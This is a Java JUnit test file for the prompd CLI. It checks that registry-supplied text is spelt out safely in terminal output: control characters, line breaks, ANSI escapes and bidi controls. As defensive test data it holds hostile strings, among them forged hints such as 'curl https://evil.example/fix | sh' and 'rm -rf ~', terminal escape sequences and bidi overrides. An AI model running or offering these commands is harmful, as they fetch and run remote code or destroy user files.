package io.prompd.client.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.prompd.core.json.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/**
 * Text a registry wrote, reasons, descriptions and dist-tags, reaches the terminal with its control characters and
 * line breaks spelt out, so that none passes for a line of prompd's own, and --json exact; a line break of prompd's
 * own, in the resolver's explanation a warning quotes, stays one.
 */
class RegistryTextSpeltOutTest extends InstallCommandsFixture {

    @Test
    void aLineBreakInATakedownReasonIsSpeltOutSoThatNoRegistryForgesALineOfPrompdsOwn() throws IOException {
        registry.publish("@acme/util", "1.2.0").takeDown("@acme/util", "1.1.0", "broken\nhint: run 'rm -rf ~'");

        CliRun info = prompd("info", "@acme/util@^1.0.0");
        CliRun none = prompd("info", "@acme/util@~1.1.0");
        CliRun install = prompd("install", "@acme/util@~1.1.0");

        assertTrue(info.out().contains("\nwithin ^1.0.0, 1.1.0 is taken down: broken^Jhint: run 'rm -rf ~'\n"),
                info.out());
        assertEquals("""
                error: no version of @acme/util matches ~1.1.0 (1.1.0 is taken down: broken^Jhint: run 'rm -rf ~')
                hint: 'prompd info @acme/util' lists its versions
                """, none.err());
        assertEquals(1, install.err().lines().filter(line -> line.startsWith("hint:")).count(), install.err());
        assertTrue(install.err().contains("(1.1.0 is taken down: broken^Jhint: run 'rm -rf ~')"), install.err());
    }

    /** Quoted raw, the registry's line break started a hint of its own below prompd's error, and ahead of its hint. */
    @Test
    void aDistTagOrTarballUrlHoldingALineBreakAddsNoHintOfTheRegistrysToAnError() throws IOException {
        String forged = "\nhint: run 'curl https://evil.example/fix | sh'\u2028hint: or this\n";
        String spelt = "^Jhint: run 'curl https://evil.example/fix | sh'<U+2028>hint: or this^J";
        registry.tag("@acme/util", "red" + forged, "1.0.0");

        CliRun tag = prompd("install", "@acme/util@blue");

        assertEquals(3, tag.exitCode(), tag.err());
        assertEquals(1, tag.err().lines().filter(line -> line.startsWith("hint:")).count(), tag.err());
        assertTrue(tag.err().contains("hint: its dist-tags are: latest, red" + spelt + "\n"), tag.err());

        Path index = registry.root().resolve("packages/@acme/util/index.json");
        ObjectNode packument = (ObjectNode) Json.reader().readTree(Files.readAllBytes(index));
        ((ObjectNode) packument.at("/versions/1.1.0/dist")).put("tarball", "-/util-1.1.0.tgz?" + forged);
        Files.write(index, Json.write(packument));

        CliRun tarball = prompd("install", "@acme/util");

        assertEquals(5, tarball.exitCode(), tarball.err());
        assertEquals(1, tarball.err().lines().filter(line -> line.startsWith("hint:")).count(), tarball.err());
        assertTrue(tarball.err().contains("packages/@acme/util/index.json (at line "), tarball.err());
        assertTrue(tarball.err().contains(": /versions/1.1.0/dist: the tarball URL '-/util-1.1.0.tgz?" + spelt + "' is"
                + " not a valid URL: illegal character in query at position 18)\n"), tarball.err());
        assertFalse(Files.exists(project.resolve("prompd.lock")), "nothing locked");
    }

    @Test
    void aWarningQuotingTheResolversExplanationKeepsItsLineBreakIndented() throws IOException {
        registry.publish("@acme/tool", "1.0.0", "@acme/util", "^1.1.0").takeDown("@acme/util", "1.1.0", "broken");
        editDependencies("\"@acme/tool\": \"^1.0.0\", \"@acme/util\": \"^1.0.0\"");

        CliRun uninstall = prompd("uninstall", "@acme/util");

        assertEquals(0, uninstall.exitCode(), uninstall.err());
        assertTrue(uninstall.err().contains("cannot be used.\n  So, because your project depends on @acme/tool ^1.0.0,"
                + " version solving failed."), uninstall.err());
        assertFalse(uninstall.err().contains("^J"), uninstall.err());
        assertTrue(uninstall.err()
                .startsWith("warning: the other dependencies were not resolved, as they cannot be, and"
                + " stay unlocked, as there was no prompd.lock: Because "), "none was locked: " + uninstall.err());
    }

    @Test
    void aRegistrysControlCharactersReachTheTerminalSpeltOutAndJsonExact() throws IOException {
        String hostile = "\u001b]0;pwned\u0007use 1.1\r\u001b[2K";
        registry.deprecate("@acme/util", "1.0.0", hostile);

        String info = prompd("info", "@acme/util").out();
        assertTrue(info.contains("  1.0.0  2026-01-01  deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n"), info);
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util", "--json").out());
        assertEquals(hostile, json.at("/versions/0/deprecated").asText());
        CliRun install = prompd("install", "@acme/util@1.0.0");
        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.err().contains("warning: @acme/util@1.0.0 is deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n"),
                install.err());
        assertEquals("warning: @acme/util@1.0.0 is deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n", prompd("outdated").err());
        CliRun installJson = prompd("install", "--json", "@acme/util@1.0.0");
        assertEquals("@acme/util@1.0.0 is deprecated: " + hostile,
                Json.reader().readTree(installJson.out()).at("/warnings/0/message").asText(), installJson.out());
        assertEquals(hostile, Json.reader().readTree(installJson.out()).at("/warnings/0/reason").asText());
        assertTrue(installJson.err().contains("deprecated: ^[]0;pwned^Guse 1.1^M^[[2K\n"), installJson.err());
        registry.tag("@acme/util", "\u001b[31mred", "1.0.0");
        assertTrue(prompd("info", "@acme/util@blue").err().contains("^[[31mred"), "an error quoting the registry too");
    }

    /**
     * A tampered version document's own text, the description, the README's lines and a prompt file's description,
     * reaches the terminal spelt out as a deprecation message does, and --json exact.
     */
    @Test
    void aVersionDocumentsDescriptionReadmeAndPromptDescriptionReachTheTerminalSpeltOut() throws IOException {
        String hostile = "\u001b]0;PWNED\u0007\u001b[2J\u009b31m";
        Path document = registry.root().resolve("packages/@acme/util/1.1.0.json");
        ObjectNode edited = (ObjectNode) Json.reader().readTree(Files.readAllBytes(document));
        edited.put("description", "Prompts " + hostile);
        edited.put("readme", "# util\n\nA test " + hostile + " here.\n");
        ((ObjectNode) edited.at("/promptFiles/prompts~1greet.prmd")).put("description", "Says " + hostile);
        Files.write(document, Json.write(edited));

        CliRun info = prompd("info", "@acme/util");

        assertEquals(0, info.exitCode(), info.err());
        String spelt = "^[]0;PWNED^G^[[2JM-^[31m";
        assertTrue(info.out().startsWith("@acme/util@1.1.0 - Prompts " + spelt + "\n"), info.out());
        assertTrue(info.out().contains("README:\n  # util\n\n  A test " + spelt + " here.\n"), info.out());
        assertTrue(info.out().contains("  greet  prompts/greet.prmd  Says " + spelt + "\n"), info.out());
        assertTrue(info.out().chars().noneMatch(c -> c == 0x1b || c == 0x07 || c == 0x9b), info.out());
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util", "--json").out());
        assertEquals("Prompts " + hostile, json.get("description").asText());
        assertEquals("Says " + hostile, json.at("/promptFiles/prompts~1greet.prmd/description").asText());
    }

    @Test
    void infoKeepsEachFieldOfTheRegistryToItsLineSoThatNonePassesForALineOfPrompdsOwn() throws IOException {
        Path folder = Files.createDirectories(work.resolve("odd"));
        Files.writeString(folder.resolve("prompd.json"), "{\"name\": \"@acme/odd\", \"version\": \"1.0.0\","
                + " \"description\": \"Explains SQL.\\nhint: run curl evil | sh\", \"license\": \"MIT\"}\n");
        registry.publish(folder).publish("@acme/odd", "1.1.0").takeDown("@acme/odd", "1.1.0", "leaked\nhint: y");

        CliRun info = prompd("info", "@acme/odd");

        assertEquals(0, info.exitCode(), info.err());
        assertTrue(info.out().startsWith("@acme/odd@1.0.0 - Explains SQL.^Jhint: run curl evil | sh\nlicense: MIT\n"),
                info.out());
        assertTrue(info.out().contains("  1.1.0  leaked^Jhint: y\n"), info.out());
        assertTrue(info.out().lines().noneMatch(line -> line.startsWith("hint:")), info.out());
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/odd", "--json").out());
        assertEquals("Explains SQL.\nhint: run curl evil | sh", json.get("description").asText());
    }

    @Test
    void aRegistrysBidiControlsReachTheTerminalSpeltOutAndJsonExact() throws IOException {
        String reordered = "use \u202E1.1\u202C or \u20662.0\u2069";
        String spelt = "use <U+202E>1.1<U+202C> or <U+2066>2.0<U+2069>";
        registry.deprecate("@acme/util", "1.0.0", reordered);

        String info = prompd("info", "@acme/util").out();
        assertTrue(info.contains("  1.0.0  2026-01-01  deprecated: " + spelt + "\n"), info);
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util", "--json").out());
        assertEquals(reordered, json.at("/versions/0/deprecated").asText());
        CliRun install = prompd("install", "@acme/util@1.0.0");
        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.err().contains("warning: @acme/util@1.0.0 is deprecated: " + spelt + "\n"), install.err());
        assertEquals("warning: @acme/util@1.0.0 is deprecated: " + spelt + "\n", prompd("outdated").err());
        registry.takeDown("@acme/util", "1.1.0", reordered);
        CliRun gone = prompd("info", "@acme/util@1.1.0");
        assertEquals(3, gone.exitCode(), gone.err());
        assertEquals("error: @acme/util@1.1.0 is taken down: " + spelt + "\n"
                + "hint: 'prompd info @acme/util' lists the versions left\n", gone.err());
        JsonNode takenDown = Json.reader().readTree(prompd("info", "@acme/util", "--json").out()).get("takenDown");
        assertEquals(reordered, takenDown.get("1.1.0").asText());
    }
}
